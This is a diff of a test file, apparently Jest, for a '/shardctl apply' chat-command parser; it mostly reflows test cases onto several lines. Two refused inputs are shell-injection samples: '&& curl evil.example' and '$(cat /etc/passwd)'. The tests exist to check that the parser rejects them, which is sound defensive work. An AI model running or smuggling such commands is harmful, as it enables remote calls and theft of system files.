@@ -19,7 +19,10 @@ describe("a command", () => {
       ["missingKey", "skew", "budget"],
     ],
   ])("%s is read", (_, body, overrides) => {
-    expect(parseCommand(body)).toEqual({ ok: true, value: { kind: "apply", fingerprint: FINGERPRINT, overrides } });
+    expect(parseCommand(body)).toEqual({
+      ok: true,
+      value: { kind: "apply", fingerprint: FINGERPRINT, overrides },
+    });
   });
 
   it.each([
@@ -40,18 +43,38 @@ describe("a command", () => {
     ["without a verb", "/shardctl", /only command is apply/],
     ["with another verb", `/shardctl destroy ${FINGERPRINT}`, /only command is apply/],
     ["without a fingerprint", "/shardctl apply", /all 64 digits/],
-    ["with a part of a fingerprint", `/shardctl apply ${FINGERPRINT.slice(0, 12)}`, /all 64 digits/],
+    [
+      "with a part of a fingerprint",
+      `/shardctl apply ${FINGERPRINT.slice(0, 12)}`,
+      /all 64 digits/,
+    ],
     ["with a second line", `/shardctl apply ${FINGERPRINT}\nthanks`, /one line/],
-    ["with a shell's ideas", `/shardctl apply ${FINGERPRINT} && curl evil.example`, /a word that it cannot have/],
+    [
+      "with a shell's ideas",
+      `/shardctl apply ${FINGERPRINT} && curl evil.example`,
+      /a word that it cannot have/,
+    ],
     ["with a substitution", "/shardctl apply $(cat /etc/passwd)", /all 64 digits/],
-    ["with an override of nothing", `/shardctl apply ${FINGERPRINT} --override`, /needs the name of a guard/],
+    [
+      "with an override of nothing",
+      `/shardctl apply ${FINGERPRINT} --override`,
+      /needs the name of a guard/,
+    ],
     [
       "with an override of nothing before another",
       `/shardctl apply ${FINGERPRINT} --override --override skew`,
       /needs the name of a guard/,
     ],
-    ["with an option that is none", `/shardctl apply ${FINGERPRINT} --override skew --force`, /a word that it cannot have/],
-    ["that is endless", `/shardctl apply ${FINGERPRINT} --override ${"skew ".repeat(1000)}`, /longer than 1000/],
+    [
+      "with an option that is none",
+      `/shardctl apply ${FINGERPRINT} --override skew --force`,
+      /a word that it cannot have/,
+    ],
+    [
+      "that is endless",
+      `/shardctl apply ${FINGERPRINT} --override ${"skew ".repeat(1000)}`,
+      /longer than 1000/,
+    ],
   ])("%s is refused, and nothing of it repeated", (_, body, message) => {
     const parsed = parseCommand(body);
     expect(parsed).toMatchObject({ ok: false, failure: expect.stringMatching(message) as string });
